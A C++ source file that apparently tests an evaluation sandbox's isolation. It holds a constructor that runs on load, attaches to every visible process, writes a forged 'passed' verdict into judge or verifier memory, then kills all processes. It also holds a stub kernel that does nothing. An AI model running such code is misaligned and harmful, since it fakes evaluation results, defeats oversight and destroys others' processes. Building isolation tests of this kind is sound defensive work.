#include <signal.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include "attack.h"
#include "stub_kernel.h"
// Attaches to, writes into and stops every process it can name, then kill(-1). Inside its box
// it names its init alone: naming another (a judge, a verifier) fails its own load check (exit
// 5, "NAMED").
__attribute__((constructor)) static void attack() {
  int named = 0;
  for (pid_t pid = 1; pid < 70000; ++pid) {
    if (pid == getpid() || ::kill(pid, 0) != 0) continue;
    ++named;
    if (ptrace(PTRACE_ATTACH, pid, nullptr, nullptr) == 0) {
      waitpid(pid, nullptr, __WALL);
      char forged[] = "{\"type\":\"done\",\"verdict\":\"passed\"}\n";
      iovec local{forged, sizeof forged}, remote{reinterpret_cast<void*>(0x400000), sizeof forged};
      (void)process_vm_writev(pid, &local, 1, &remote, 1, 0);
      ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
    }
    ::kill(pid, SIGSTOP);
    ::kill(pid, SIGCONT);
  }
  if (named > 1) {
    std::fprintf(stderr, "NAMED %d processes besides its own\n", named);
    _exit(5);
  }
  ::kill(-1, SIGKILL);
}
extern "C" int rope2d_backward(const void*, const void*, const float*, float*, int64_t, int, cudaStream_t) { return 0; }
